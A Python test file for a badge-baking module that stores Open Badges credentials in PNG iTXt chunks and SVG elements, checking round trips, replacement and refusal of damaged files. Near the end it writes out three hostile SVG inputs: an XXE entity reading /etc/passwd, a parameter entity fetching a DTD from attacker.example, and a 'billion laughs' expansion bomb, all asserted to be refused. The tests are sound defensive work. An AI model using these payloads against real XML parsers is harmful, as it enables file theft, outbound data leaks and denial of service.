"""Badge baking: a credential carried inside a PNG (an iTXt chunk) or an SVG (an ``openbadges:credential``
element), read back by our code and, where one exists, by an independent reader (Pillow for PNG text chunks,
ElementTree for the SVG's structure)."""

from __future__ import annotations

import io
import struct
import time
import zlib
from xml.etree import ElementTree

import pytest
import qrcode
import qrcode.image.svg
from PIL import Image

from credentials.baking import (
    OB3_NAMESPACE,
    SVG_NAMESPACE,
    BakingError,
    MalformedPng,
    MalformedSvg,
    UnsafeSvg,
    bake_png,
    bake_svg,
    unbake_png,
    unbake_svg,
)

TOKEN = "eyJhbGciOiJFZERTQSIsInR5cCI6IkpXVCJ9.eyJpc3MiOiJodHRwOi8vaXNzdWVyLnRlc3QifQ.c2lnbmF0dXJl"
OTHER_TOKEN = "eyJhbGciOiJFZERTQSIsInR5cCI6IkpXVCJ9.eyJqdGkiOiJvdGhlciJ9.b3RoZXI"
CREDENTIAL_TAG = f"{{{OB3_NAMESPACE}}}credential"


# --------------------------------------------------------------------------------------------------------------
# PNG helpers: chunks written and read by hand, independently of the module under test


def badge_png() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (64, 48), (200, 30, 60)).save(buffer, format="PNG")
    return buffer.getvalue()


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def chunks_of(png: bytes) -> list[tuple[bytes, bytes]]:
    """(type, data) of every chunk up to IEND."""
    found, offset = [], 8
    while True:
        (length,) = struct.unpack_from(">I", png, offset)
        kind = png[offset + 4 : offset + 8]
        found.append((kind, png[offset + 8 : offset + 8 + length]))
        offset += 12 + length
        if kind == b"IEND":
            return found


def before_iend(png: bytes, extra: bytes) -> bytes:
    iend = png.rindex(b"IEND") - 4
    return png[:iend] + extra + png[iend:]


def itxt(text: bytes, *, compressed: bool = False, keyword: bytes = b"openbadgecredential") -> bytes:
    flag = b"\x01\x00" if compressed else b"\x00\x00"
    return chunk(b"iTXt", keyword + b"\x00" + flag + b"\x00\x00" + (zlib.compress(text) if compressed else text))


# --------------------------------------------------------------------------------------------------------------
# PNG


def test_png_round_trip_is_readable_by_pillow_too() -> None:
    original = badge_png()
    baked = bake_png(original, TOKEN)

    assert unbake_png(baked) == TOKEN
    with Image.open(io.BytesIO(baked)) as image:
        image.load()  # every CRC and the image data still check out for an independent decoder
        assert image.info["openbadgecredential"] == TOKEN
        assert image.size == (64, 48)
    kinds = [kind for kind, _ in chunks_of(baked)]
    assert kinds[-2:] == [b"iTXt", b"IEND"], "the credential goes just before IEND"
    assert [c for c in chunks_of(baked) if c[0] != b"iTXt"] == chunks_of(original), "every other chunk kept"


def test_an_image_without_a_credential_gives_none() -> None:
    plain = badge_png()
    assert unbake_png(plain) is None
    tagged = before_iend(plain, chunk(b"tEXt", b"Software\x00paint"))
    assert unbake_png(tagged) is None


def test_baking_again_replaces_the_credential_instead_of_adding_one() -> None:
    once = bake_png(badge_png(), TOKEN)
    twice = bake_png(once, OTHER_TOKEN)

    assert unbake_png(twice) == OTHER_TOKEN
    credentials = [data for kind, data in chunks_of(twice) if data.startswith(b"openbadgecredential\x00")]
    assert len(credentials) == 1
    assert len(twice) == len(once) - len(TOKEN) + len(OTHER_TOKEN)


def test_a_credential_chunk_after_iend_is_not_part_of_the_image() -> None:
    smuggled = badge_png() + itxt(TOKEN.encode())
    assert unbake_png(smuggled) is None
    baked = bake_png(smuggled, OTHER_TOKEN)
    assert unbake_png(baked) == OTHER_TOKEN
    assert baked.endswith(chunk(b"IEND", b"")), "bytes after IEND are dropped"


def test_a_chunk_with_a_wrong_crc_is_a_damaged_file() -> None:
    baked = bytearray(bake_png(badge_png(), TOKEN))
    position = bytes(baked).index(TOKEN.encode())
    baked[position] ^= 0x01  # one bit of the credential flipped, its CRC left as it was
    with pytest.raises(MalformedPng, match="CRC"):
        unbake_png(bytes(baked))
    with pytest.raises(MalformedPng, match="CRC"):
        bake_png(bytes(baked), TOKEN)


@pytest.mark.parametrize(
    ("png", "reason"),
    [
        (b"GIF89a" + b"\x00" * 40, "signature"),
        (badge_png()[:-12], "ends before its IEND"),
        (badge_png()[:30], "ends before|longer than the file"),
        (b"\x89PNG\r\n\x1a\n" + chunk(b"IDAT", b"") + chunk(b"IEND", b""), "IHDR"),
        (before_iend(badge_png(), chunk(b"i\x00XT", b"")), "invalid type"),
        (before_iend(badge_png(), struct.pack(">I4s", 2**31 + 5, b"tEXt")), "longer than the file"),
    ],
)
def test_malformed_pngs_are_refused_with_a_reason(png: bytes, reason: str) -> None:
    with pytest.raises(MalformedPng, match=reason):
        unbake_png(png)


def test_two_credentials_or_a_compressed_one_are_refused() -> None:
    two = before_iend(badge_png(), itxt(TOKEN.encode()) + itxt(OTHER_TOKEN.encode()))
    with pytest.raises(MalformedPng, match="two credentials"):
        unbake_png(two)
    assert unbake_png(bake_png(two, TOKEN)) == TOKEN, "baking replaces both"

    compressed = before_iend(badge_png(), itxt(TOKEN.encode(), compressed=True))
    with pytest.raises(MalformedPng, match="compressed"):
        unbake_png(compressed)


def test_a_credential_of_another_keyword_is_not_ours() -> None:
    legacy = before_iend(badge_png(), itxt(b'{"assertion": 1}', keyword=b"openbadges"))
    assert unbake_png(legacy) is None


def test_the_text_of_a_credential_chunk_is_returned_trimmed() -> None:
    with_json = before_iend(badge_png(), itxt(b'  {"id": "http://issuer.test/credentials/1"}\n'))
    assert unbake_png(with_json) == '{"id": "http://issuer.test/credentials/1"}'


@pytest.mark.parametrize("jws", ["", "not a token", TOKEN + ".extra", TOKEN.replace(".", ".=", 1), 'a."b.c'])
def test_only_a_compact_jws_is_baked(jws: str) -> None:
    with pytest.raises(BakingError):
        bake_png(badge_png(), jws)
    with pytest.raises(BakingError):
        bake_svg(qr_svg(), jws)


# --------------------------------------------------------------------------------------------------------------
# SVG


def qr_svg() -> bytes:
    """An SVG as the issuer renders its QR codes (an XML declaration, a namespaced root, one path)."""
    buffer = io.BytesIO()
    qrcode.make("http://verifier.test/verify", image_factory=qrcode.image.svg.SvgPathImage).save(buffer)
    return buffer.getvalue()


DESIGNED_SVG = (
    '<?xml version="1.0" encoding="UTF-8"?>\n'
    '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n'
    "<!-- made by hand -->\n"
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10" data-note="a > b">\n'
    '  <title>Odznaka – Łódź</title><circle cx="5" cy="5" r="4"/>\n'
    "</svg>\n"
).encode()


@pytest.mark.parametrize("svg", [qr_svg(), DESIGNED_SVG], ids=["qr", "designed"])
def test_svg_round_trip_puts_the_element_first_and_keeps_the_rest(svg: bytes) -> None:
    baked = bake_svg(svg, TOKEN)

    assert unbake_svg(baked) == TOKEN
    root = ElementTree.fromstring(baked)
    assert root.tag == f"{{{SVG_NAMESPACE}}}svg"
    assert root[0].tag == CREDENTIAL_TAG and root[0].attrib == {"verify": TOKEN}
    element = f'<openbadges:credential xmlns:openbadges="{OB3_NAMESPACE}" verify="{TOKEN}"/>'.encode()
    assert baked.replace(element, b"") == svg, "nothing else changed, byte for byte"


def test_baking_an_svg_again_replaces_the_element() -> None:
    once = bake_svg(DESIGNED_SVG, TOKEN)
    twice = bake_svg(once, OTHER_TOKEN)

    assert unbake_svg(twice) == OTHER_TOKEN
    assert twice.count(b"openbadges:credential") == 1
    assert bake_svg(twice, OTHER_TOKEN) == twice


def test_an_element_placed_by_another_baker_is_read_and_replaced() -> None:
    theirs = (
        f'<svg xmlns="{SVG_NAMESPACE}" xmlns:ob="{OB3_NAMESPACE}"><rect width="1" height="1"/>'
        '<ob:credential note="x>y"><![CDATA[{"id": "http://issuer.test/credentials/7"}]]></ob:credential >'
        "<!-- after --></svg>"
    ).encode()
    assert unbake_svg(theirs) == '{"id": "http://issuer.test/credentials/7"}', "a credential's JSON as its text"

    baked = bake_svg(theirs, TOKEN)
    assert unbake_svg(baked) == TOKEN
    assert b"CDATA" not in baked and b'<rect width="1" height="1"/><!-- after --></svg>' in baked


def test_a_foreign_svg_carries_no_credential() -> None:
    assert unbake_svg(qr_svg()) is None
    assert unbake_svg(DESIGNED_SVG) is None
    nested = f'<svg xmlns="{SVG_NAMESPACE}"><g><credential xmlns="{OB3_NAMESPACE}" verify="{TOKEN}"/></g></svg>'
    assert unbake_svg(nested.encode()) is None, "only a child of the root element counts"


def test_two_credential_elements_are_refused() -> None:
    two = f'<svg xmlns="{SVG_NAMESPACE}" xmlns:o="{OB3_NAMESPACE}"><o:credential verify="{TOKEN}"/>'
    two += f'<o:credential verify="{OTHER_TOKEN}"/></svg>'
    with pytest.raises(MalformedSvg, match="two credentials"):
        unbake_svg(two.encode())
    assert unbake_svg(bake_svg(two.encode(), TOKEN)) == TOKEN, "baking replaces both"


XXE = (
    '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'
    f'<svg xmlns="{SVG_NAMESPACE}"><text>&secret;</text></svg>'
)
PARAMETER_ENTITY = (
    f'<!DOCTYPE svg [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]><svg xmlns="{SVG_NAMESPACE}"/>'
)
LAUGHS = (
    '<!DOCTYPE svg [<!ENTITY a "hahahahahahahaha">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{("&" + chr(97 + n) + ";") * 16}">' for n in range(8))
    + f']><svg xmlns="{SVG_NAMESPACE}"><text>&i;</text></svg>'
)


@pytest.mark.parametrize("svg", [XXE, PARAMETER_ENTITY, LAUGHS], ids=["xxe", "parameter-entity", "laughs"])
def test_hostile_svgs_are_refused_before_anything_is_expanded(svg: str) -> None:
    started = time.perf_counter()
    with pytest.raises(UnsafeSvg):
        unbake_svg(svg.encode())
    with pytest.raises(UnsafeSvg):
        bake_svg(svg.encode(), TOKEN)
    assert time.perf_counter() - started < 1


@pytest.mark.parametrize(
    ("svg", "reason"),
    [
        (b"<svg xmlns='http://www.w3.org/2000/svg'><g></svg>", "well-formed"),
        (b"<html><body/></html>", "not an SVG"),
        (b"<svg><rect/></svg>", "not an SVG"),  # no SVG namespace: some other XML
        (f'<svg xmlns="{SVG_NAMESPACE}">&nbsp;</svg>'.encode(), "well-formed"),
        ('<svg xmlns="http://www.w3.org/2000/svg"/>'.encode("utf-16"), "UTF-8"),
        (f'<?xml version="1.0" encoding="rot13"?><svg xmlns="{SVG_NAMESPACE}"><g/></svg>'.encode(), "encoding"),
    ],
)
def test_malformed_svgs_are_refused_with_a_reason(svg: bytes, reason: str) -> None:
    with pytest.raises(MalformedSvg, match=reason):
        unbake_svg(svg)


def test_an_empty_svg_cannot_hold_a_credential() -> None:
    with pytest.raises(MalformedSvg, match="empty"):
        bake_svg(f'<svg xmlns="{SVG_NAMESPACE}"/>'.encode(), TOKEN)
